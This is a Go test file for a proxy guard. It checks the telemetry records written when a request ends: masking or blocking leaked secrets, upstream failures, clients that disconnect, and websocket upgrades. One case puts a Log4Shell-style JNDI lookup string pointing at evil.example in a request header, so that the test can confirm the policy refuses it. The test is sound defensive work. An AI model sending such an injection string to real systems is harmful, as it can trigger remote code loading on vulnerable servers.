package guard_test

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"redoubt/telemetry"
)

// ends are how requests ended, as the records say.
func (f *front) ends(t *testing.T) string {
	t.Helper()
	var list []string
	for _, r := range f.closed(t) {
		if r.About != telemetry.Invocation {
			continue
		}
		list = append(list, strings.TrimSpace(fmt.Sprintf("%s %d %d %d %v %s", r.Outcome, r.Code, r.BytesOut, r.Leaks, r.Streamed, r.ErrorType)))
		if r.Request == "" || r.Decision != "" || r.Reasons != nil || r.Function != "Orders" {
			t.Errorf("%+v", r)
		}
	}
	return strings.Join(list, "; ")
}

// TestServed: each request before a server has one record of its end, the same as an
// invocation has: outcome, status, bytes, finds, streamed, what went wrong.
func TestServed(t *testing.T) {
	const leaky = `{"iban":"DE02","bic":{"iban":7},"pw":"correct-horse"}`
	breaks := func(kind string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", kind)
			_, _ = io.WriteString(w, "begins")
			w.(http.Flusher).Flush()
			panic(http.ErrAbortHandler)
		}
	}
	events := func(text string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/event-stream")
			_, _ = io.WriteString(w, text)
			w.(http.Flusher).Flush()
		}
	}
	for _, c := range []struct {
		name, policy string
		server       http.HandlerFunc
		headers      []string
		want         string
	}{
		{"answered", blocking, body("hello"), nil, "ok 200 5 0 false"},
		{"an error of the server's", blocking, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(500) }, nil, "ok 500 0 0 false"},
		{"masked", masking, body(leaky), nil, "ok 200 44 3 false"},
		{"watched", watching, body(leaky), nil, "ok 200 53 3 false"},
		{"in a header, too", masking, body("correct-horse correct-horse", "X-Debug", "correct-horse"), nil, "ok 200 9 3 false"},
		{"withheld", blocking, body(leaky), nil, "refused 502 57 1 false"},
		{"a stream", masking, events("data: correct-horse\n\n"), nil, "ok 200 21 1 true"},
		{"a stream that was cut off", blocking, events("data: correct-horse\n\n"), nil, "refused 200 6 1 true"},
		{"nobody looks", `"mode":"enforce"`, chunked("a", "b"), nil, "ok 200 2 0 true"},
		{"the server breaks off", masking, breaks("text/plain"), nil, "failed 502 57 0 false Guard.UpstreamBroken"},
		{"the server breaks off a stream", masking, breaks("text/event-stream"), nil, "failed 200 6 0 true Guard.UpstreamBroken"},
		{"the server breaks off at once", masking, func(http.ResponseWriter, *http.Request) { panic(http.ErrAbortHandler) }, nil, "failed 502 57 0 false Guard.UpstreamBroken"},
		{"refused by the policy", masking, body("hello"), []string{"X-Name", "${jndi:ldap://evil.example/a}"}, "refused 400 57 0 false"},
		{"refused as it stands", masking, body("hello"), []string{"Content-Encoding", "br"}, "refused 415 68 0 false"},
	} {
		t.Run(c.name, func(t *testing.T) {
			f := newFront(t, c.policy, false, c.server)
			f.ask(t, http.MethodGet, c.headers...)
			if got := f.ends(t); got != c.want {
				t.Errorf("%s, want %s", got, c.want)
			}
		})
	}
}

// TestServedGone: of whom nobody hears any more, whether an answer is held or passes.
func TestServedGone(t *testing.T) {
	for kind, want := range map[string]string{
		"text/plain": "rejected 0 0 0 false Guard.ClientGone", "text/event-stream": "rejected 200 6 0 true Guard.ClientGone",
	} {
		begun, left := make(chan struct{}), make(chan struct{})
		f := newFront(t, masking, false, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", kind)
			_, _ = io.WriteString(w, "begins")
			w.(http.Flusher).Flush()
			close(begun)
			<-r.Context().Done()
			close(left)
		})
		conn, err := net.Dial("tcp", strings.TrimPrefix(f.url, "http://")) //nolint:noctx // the test's own server
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: a\r\n\r\n"); err != nil {
			t.Fatal(err)
		}
		<-begun
		if want[9] == '2' { // the beginning has arrived
			if _, err := http.ReadResponse(bufio.NewReader(conn), nil); err != nil { //nolint:bodyclose // the connection ends
				t.Error(err)
			}
		}
		conn.Close()
		<-left
		if got := f.ends(t); got != want {
			t.Errorf("%s: %s", kind, got)
		}
	}
}

// TestServedUnreachable: nobody listens behind the door.
func TestServedUnreachable(t *testing.T) {
	f := newFront(t, masking, false, nil)
	f.behind.Close()
	f.ask(t, http.MethodGet)
	if got := f.ends(t); got != "failed 502 57 0 false Guard.UpstreamUnreachable" {
		t.Error(got)
	}
}

// TestServedUpgrade: the end of an upgrade is that of its connection.
func TestServedUpgrade(t *testing.T) {
	f := newFront(t, masking, false, func(w http.ResponseWriter, _ *http.Request) {
		conn, rw, err := http.NewResponseController(w).Hijack()
		if err != nil {
			t.Error(err)
			return
		}
		_, _ = rw.WriteString("HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\nbye")
		_ = rw.Flush()
		conn.Close()
	})
	conn, err := (&net.Dialer{Timeout: time.Minute}).DialContext(context.Background(), "tcp", strings.TrimPrefix(f.url, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"); err != nil {
		t.Fatal(err)
	}
	if data, _ := io.ReadAll(conn); !strings.HasSuffix(string(data), "bye") {
		t.Errorf("%q", data)
	}
	conn.Close() // each side has said goodbye
	<-f.over
	if got := f.ends(t); got != "ok 101 0 0 true" {
		t.Error(got)
	}
}
